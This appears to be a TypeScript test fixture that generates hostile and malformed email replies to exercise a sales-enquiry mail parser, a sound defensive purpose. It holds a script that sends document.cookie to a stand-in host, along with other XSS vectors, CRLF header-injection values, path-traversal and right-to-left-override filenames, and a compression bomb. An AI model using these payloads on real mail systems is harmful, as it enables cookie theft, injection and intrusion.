// Mails as attackers, broken programs and robots write them. Each is another one for each number.
import { gzipSync } from 'node:zlib';
import { customer, mailOf, type AnsweredEnquiry } from './incoming-mail';

export interface HostileMail {
  what: string;
  raw: Buffer;
  /** A program has written it, so that it must open nothing. */
  isAutomatic?: true;
}

/** It says that the answer has not arrived, which opens the enquiry. */
export const aBounce = 'a bounce';

type Maker = (number: number, enquiry: AnsweredEnquiry) => string | Buffer;

const from = 'Asha Nair <asha@customer.example>';
const reply = ({ messageId }: AnsweredEnquiry, number: number, headers: Record<string, string> = {}) => ({
  From: from,
  To: 'sales@example.com',
  Subject: 'Re: Your enquiry about Bloom',
  'Message-ID': `<hostile-${number}@customer.example>`,
  'In-Reply-To': `<${messageId}>`,
  ...headers,
});

const multipart = (
  enquiry: AnsweredEnquiry,
  number: number,
  parts: string[],
  type = 'multipart/mixed',
  headers: Record<string, string> = {},
) =>
  mailOf(
    reply(enquiry, number, {
      'MIME-Version': '1.0',
      'Content-Type': `${type}; boundary="b${number}"`,
      ...headers,
    }),
    [...parts.map((part) => `--b${number}\r\n${part}`), `--b${number}--`, ''].join('\r\n'),
  );
const attachment = (name: string, type: string, bytes: Buffer | string) =>
  [
    `Content-Type: ${type}; name="${name}"`,
    `Content-Disposition: attachment; filename="${name}"`,
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from(bytes).toString('base64'),
  ].join('\r\n');
const plain = 'Content-Type: text/plain; charset=utf-8\r\n\r\nPlease see the file.';

const script = '<script>fetch("//evil.example/"+document.cookie)</script>';

const makers: Record<string, Maker> = {
  'HTML with scripts': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Content-Type': 'text/html; charset=utf-8' }),
      `<p onclick="alert(${number})">Yes</p>${script}<img src=x onerror=alert(1)><iframe src="javascript:1"></iframe><style>p{background:url(//evil.example)}</style>`,
    ),
  'HTML nested without end': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Content-Type': 'text/html' }),
      '<div>'.repeat(20_000 + number) + 'deep' + '<table><tr><td>'.repeat(500),
    ),
  'plain text that looks like HTML': (number, enquiry) =>
    mailOf(reply(enquiry, number), `${script} ${number} javascript:alert(1) [x](javascript:alert(1))`),
  'an unknown charset': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Content-Type': `text/plain; charset="x-none-${number}"` }),
      'h\xe9llo \xff\xfe',
    ),
  'UTF-7': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Content-Type': 'text/plain; charset=utf-7' }),
      `+ADw-script+AD4-alert(${number})`,
    ),
  'NUL and control characters': (number, enquiry) =>
    Buffer.from(
      mailOf(
        reply(enquiry, number, {
          Subject: `Re: Your\0 enquiry\x07 about Bloom`,
          From: `"A\0sha\x1b" <${customer}>`,
        }),
        `a\0b\x08c\x1b[2Jd\u202egnp.exe\u2066 ${number}`,
      ),
    ),
  'a damaged base64': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, {
        'Content-Transfer-Encoding': 'base64',
        'Content-Type': 'text/plain; charset=utf-8',
      }),
      `SGVsbG8=!!!===${'@'.repeat(number)}\r\nSGVs`,
    ),
  'a damaged quoted-printable': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Content-Transfer-Encoding': 'quoted-printable' }),
      `=ZZ=4=00=C3${number}=`,
    ),
  'a script as a picture': (number, enquiry) =>
    multipart(enquiry, number, [
      plain,
      attachment(`photo-${number}.png`, 'image/png', `<svg onload=alert(1)>${script}`),
    ]),
  'HTML as a PDF': (number, enquiry) =>
    multipart(enquiry, number, [
      plain,
      attachment(`..\\..\\..\\..\\offer.pdf`, 'application/pdf', `<html>${script}`),
    ]),
  'a name of a file that leads away': (number, enquiry) =>
    multipart(enquiry, number, [
      plain,
      attachment(`../../../etc/passwd`, 'text/html', script),
      attachment(`invoice\u202efdp.exe`, 'application/pdf', 'MZ'),
      attachment(`a\r\nX-Evil: 1`, 'text/html', script),
    ]),
  'headers in headers': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, {
        Subject: `=?utf-8?Q?Re:_Your_enquiry_about_Bloom=0D=0ABcc:_all@example.com=0D=0A=0D=0A<script>?=`,
        From: `=?utf-8?Q?Asha=0D=0ABcc:_x@example.com?= <${customer}>`,
        'Reply-To': `"x" <a@b.example\r\n\tBcc: x@example.com>`,
      }),
      'Injected.',
    ),
  'parts in parts': (number, enquiry) => {
    let part = plain;
    for (let depth = 0; depth < 60; depth += 1)
      part = `Content-Type: multipart/mixed; boundary="n${depth}"\r\n\r\n--n${depth}\r\n${part}\r\n--n${depth}--`;
    return multipart(enquiry, number, [part]);
  },
  'thousands of parts': (number, enquiry) => multipart(enquiry, number, Array<string>(1500).fill(plain)),
  'huge headers': (number, enquiry) =>
    mailOf(reply(enquiry, number, { 'X-Big': 'x'.repeat(2_000_000) }), `Behind a huge header ${number}.`),
  'many headers': (number, enquiry) =>
    mailOf(
      {
        ...reply(enquiry, number),
        ...Object.fromEntries(Array.from({ length: 20_000 }, (_, index) => [`X-H${index}`, 'y'])),
      },
      'Many.',
    ),
  'no Message-ID': (number, enquiry) => {
    const raw = mailOf(reply(enquiry, number), `No id ${number}.`);
    return raw.replace(/^Message-ID: .*\r\n/m, '');
  },
  'a Message-ID of a thousand characters': (number, enquiry) =>
    mailOf(
      reply(enquiry, number, { 'Message-ID': `<${'i'.repeat(1000)}${number}@x>` }),
      `Long id ${number}.`,
    ),
  'winmail.dat': (number, enquiry) =>
    multipart(enquiry, number, [
      plain,
      attachment('winmail.dat', 'application/ms-tnef', `\x78\x9f\x3e\x22${number}`),
    ]),
  'a compressed bomb': (number, enquiry) =>
    multipart(enquiry, number, [
      plain,
      attachment(`bomb-${number}.zip`, 'application/zip', gzipSync(Buffer.alloc(20_000_000))),
    ]),
  'a mail of two megabytes of text': (number, enquiry) =>
    mailOf(reply(enquiry, number), `${number} `.repeat(500_000)),
  'no end': (number, enquiry) =>
    multipart(enquiry, number, [plain]).replace(`--b${number}--`, `--b${number}\r\nContent-Type: text/html`),
  'nothing but garbage': (number) =>
    Buffer.from(Array.from({ length: 3000 }, (_, at) => (at * 7 + number * 13) % 256)),
  'no headers': (number) => `\r\n\r\nJust text ${number}.`,
};

const robots: Record<string, Record<string, string>> = {
  'out of office': { 'Auto-Submitted': 'auto-replied', Subject: 'Automatic reply: Your enquiry about Bloom' },
  'an old out of office': { Precedence: 'bulk', 'X-Autoreply': 'yes' },
  'a mailing list': { 'List-Id': '<news.customer.example>', 'In-Reply-To': '', Subject: 'News' },
  'an empty return path': { 'Return-Path': '<>' },
};

const bounce: Maker = (number, enquiry) =>
  multipart(
    enquiry,
    number,
    [
      'Content-Type: text/plain\r\n\r\nThe mail could not be delivered.',
      `Content-Type: message/delivery-status\r\n\r\nReporting-MTA: dns; mx.example\r\n\r\nFinal-Recipient: rfc822; ${customer}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 No such user`,
      `Content-Type: message/rfc822\r\n\r\nMessage-ID: <${enquiry.messageId}>\r\nSubject: Your enquiry\r\n\r\nIt is 420 rupees.`,
    ],
    'multipart/report; report-type=delivery-status',
    { From: 'MAILER-DAEMON@mx.example', 'Return-Path': '<>', 'In-Reply-To': '<nothing@mx.example>' },
  );

/** Each kind once, and then again with other numbers. All have another Message-ID. */
export function hostileMails(enquiry: AnsweredEnquiry, count?: number): HostileMail[] {
  const kinds: [string, Maker, true?][] = [
    ...Object.entries(makers),
    ...Object.entries(robots).map(([what, headers]): [string, Maker, true] => [
      what,
      (number, answered) => mailOf(reply(answered, number, headers), 'I am away.'),
      true,
    ]),
    [aBounce, bounce, true],
  ];
  return Array.from({ length: count ?? kinds.length }, (_, number) => number).flatMap((number) =>
    kinds.slice(number % kinds.length, (number % kinds.length) + 1).map(([what, make, isAutomatic]) => ({
      what,
      raw: Buffer.from(make(number, enquiry)),
      ...(isAutomatic && { isAutomatic }),
    })),
  );
}
